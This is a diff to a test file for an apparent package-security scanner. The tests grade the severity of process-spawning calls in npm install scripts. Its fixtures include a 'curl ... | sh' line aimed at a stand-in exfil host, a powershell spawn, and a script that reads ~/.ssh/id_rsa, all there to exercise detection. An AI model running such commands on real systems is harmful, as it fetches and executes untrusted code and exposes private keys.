@@ -140,3 +140,19 @@ def test_prose_and_test_fixtures_are_quiet(tmp_path):
     assert [(i.id, i.severity) for i in inds] == [("shipped_binary", "low")]
     script = _tree(tmp_path / "s", {"bin/tool": "#!/bin/sh\ncat ~/.ssh/id_rsa\n"})
     assert "credential_paths" in _ids(analyze_artifact(script, "pypi"))
+
+
+@pytest.mark.parametrize("script,severity", [
+    ('const { execFileSync } = require("child_process");\nexecFileSync("git", ["--version"]);\n', "info"),
+    ('require("child_process").execSync("node-gyp rebuild");\n', "info"),
+    ('const cp = require("child_process");\ncp.exec(cmd);\n', "medium"),  # built at run time: unknown
+    ('const cp = require("child_process");\ncp.exec(`node ${f}`);\n', "medium"),
+    ('const cp = require("child_process");\ncp.exec("curl -s http://stage.exfil.invalid/x | sh");\n', "high"),
+    ('const cp = require("child_process");\ncp.spawn("powershell", ["-c", "x"]);\n', "high"),
+    ('const cp = require("child_process");\nmodule.exports = cp;\n', "high"),  # no call to read: as before
+])
+def test_npm_install_script_process_severity_follows_the_command(script, severity):
+    from slopspotter_lab.heuristics.static import analyze_js
+
+    found = [i for i in analyze_js("package/build.js", script, "build") if i.id == "setup_process"]
+    assert [i.severity for i in found] == [severity]
